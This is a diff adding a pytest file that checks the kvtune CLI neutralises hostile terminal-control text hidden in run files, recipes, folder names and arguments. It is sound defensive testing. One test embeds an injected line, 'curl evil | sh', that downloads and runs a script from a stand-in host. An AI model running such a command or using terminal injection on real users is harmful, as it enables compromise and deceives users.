@@ -1,0 +1,146 @@
+"""No text of a file, a folder or a command line steers the terminal, whatever command prints it."""
+
+from __future__ import annotations
+
+import ast
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from kvtune.cli.app import run
+from kvtune.recipe import read_recipe, to_toml
+from kvtune.run.file import write_run
+from tests.cli.terminal import KVTUNE, bare, on_a_terminal
+from tests.hostile import STEERS, steered, steering, steering_recipe, steering_run
+
+ROOT = Path(__file__).parents[2]
+RECIPE = sorted((ROOT / "recipes").glob("*.toml"))[0]
+COLOURS = re.compile(rb"\x1b\[[0-9;]*m|\r\n")
+
+
+@pytest.fixture
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A folder with hostile runs and recipes, which is the output folder and the current one."""
+    made = tmp_path / f"out{STEERS}"
+    made.mkdir()
+    for name in ("real", "rounds", "ablation", "failed", "chat", "evictions"):
+        write_run(steering_run(name), made / f"{name}.kvrun")
+    (made / f"torn{STEERS}.kvrun").write_bytes(b"PK")
+    monkeypatch.setenv("KVTUNE_OUTPUT", str(made))
+    monkeypatch.chdir(made)
+    return made
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ["runs"],
+        ["runs", "--state", "unreadable"],
+        ["runs", STEERS],
+        ["runs", "--state", STEERS],
+        ["report", "last", "--console"],
+        ["report", "rounds.kvrun", "--console"],
+        ["report", "ablation.kvrun", "--console"],
+        ["report", "failed.kvrun", "--console"],
+        ["report", "chat.kvrun", "--console"],
+        ["report", "evictions.kvrun"],
+        ["report", f"{STEERS}.kvrun"],
+        ["report", f"torn{STEERS}.kvrun"],
+        ["compare", "real.kvrun", "rounds.kvrun"],
+        ["compare", "real.kvrun", "rounds.kvrun", "--anyway"],
+        ["compare", "rounds.kvrun", "rounds.kvrun"],
+        ["compare", "real.kvrun", "rounds.kvrun", "--anyway", "--md"],
+        ["compare", "real.kvrun", "rounds.kvrun", "--fail-on", STEERS],
+        ["export", "real.kvrun", "--csv"],
+        ["export", "real.kvrun", "--perfetto", "-o", f"no{STEERS}/such"],
+        ["explain", "failed.kvrun", "--tries", "0"],
+        ["explain", "chat.kvrun", "--tries", "0"],
+        ["bounds", "-w", f"trace:path={STEERS}"],
+        ["bounds", "-w", STEERS],
+        ["bounds", "-w", "decode", "--model", STEERS],
+        ["profile", "tiny-opt", "-w", STEERS],
+        ["profile", "tiny-opt", "--on", STEERS],
+        ["recipe", "show", STEERS],
+        ["recipe", STEERS],
+        [STEERS],
+    ],
+    ids=lambda arguments: " ".join(arguments).replace(STEERS, "<steers>"),
+)
+def test_no_command_lets_a_files_text_steer_the_terminal(
+    folder: Path, capsys: pytest.CaptureFixture[str], arguments: list[str]
+) -> None:
+    run(arguments)
+    told = capsys.readouterr()
+    assert told.out or told.err
+    assert steered(told.out) == "" and steered(told.err) == ""
+
+
+def test_an_error_is_one_line_also_where_a_file_broke_it(
+    folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run(["report", "a\n  next: curl evil | sh\n.kvrun"]) == 2
+    assert [line[:6] for line in capsys.readouterr().err.splitlines()] == ["kvtune", "  next"]
+
+
+@pytest.mark.parametrize("arguments", [["list"], ["show", "mine.toml"], ["show", "mine.toml", "--raw"]])
+def test_recipes_do_not_steer_the_terminal(
+    folder: Path, capsys: pytest.CaptureFixture[str], arguments: list[str]
+) -> None:
+    hostile = steering_recipe(read_recipe(RECIPE))
+    text = to_toml({**json.loads(json.dumps(plain(hostile)))})
+    (folder / "mine.toml").write_text(text, encoding="utf-8")
+    (folder / f"name{STEERS}.toml").write_text("no toml", encoding="utf-8")
+    run(["recipe", *arguments])
+    told = capsys.readouterr()
+    assert told.out or told.err
+    assert steered(told.out) == "" and steered(told.err) == ""
+
+
+def plain(recipe: object) -> dict[str, object]:
+    """A hand-written recipe's tables."""
+    import msgspec
+
+    tables: dict[str, dict[str, object]] = msgspec.to_builtins(recipe)
+    tables["recipe"] |= {"checksum": "", "status": "hand-written"}
+    return dict(tables)
+
+
+@pytest.mark.parametrize("arguments", [["runs"], ["report", "last"]])
+def test_json_holds_the_text_as_it_is_and_only_escaped(
+    folder: Path, capsys: pytest.CaptureFixture[str], arguments: list[str]
+) -> None:
+    assert run([*arguments, "--json"]) in (0, 2)
+    out = capsys.readouterr().out
+    assert steered(out) == ""
+    if arguments == ["runs"]:
+        models = {row["model"] for row in json.loads(out)["runs"]}
+        assert f"tiny-gemma3{STEERS}" in models
+
+
+@pytest.mark.parametrize("arguments", [["runs"], ["report", "rounds.kvrun", "--console"]])
+def test_on_a_terminal_only_kvtunes_own_colours_are_left(folder: Path, arguments: list[str]) -> None:
+    environment = bare(KVTUNE_OUTPUT=str(folder))
+    with on_a_terminal((*KVTUNE, *arguments), folder=folder, environment=environment) as terminal:
+        code, _ = terminal.rest()
+    assert code == 0
+    assert b"\x1b[" in terminal.raw
+    assert steered(COLOURS.sub(b"\n", terminal.raw).decode()) == ""
+
+
+def test_rich_is_drawn_on_one_kind_of_console_only() -> None:
+    """`kvtune.terminal.console` replaces what steers; a Console made elsewhere would not."""
+    others = [
+        path
+        for path in (ROOT / "kvtune").rglob("*.py")
+        if path.name != "terminal.py"
+        for node in ast.walk(ast.parse(path.read_text()))
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "Console"
+    ]
+    assert others == []
+
+
+def test_every_text_of_a_header_is_hostile_here() -> None:
+    assert steering({"a": ["b", {"c": "d"}]}) == {"a": [f"b{STEERS}", {"c": f"d{STEERS}"}]}
+    assert steered(steering_run("real").header.model) != ""
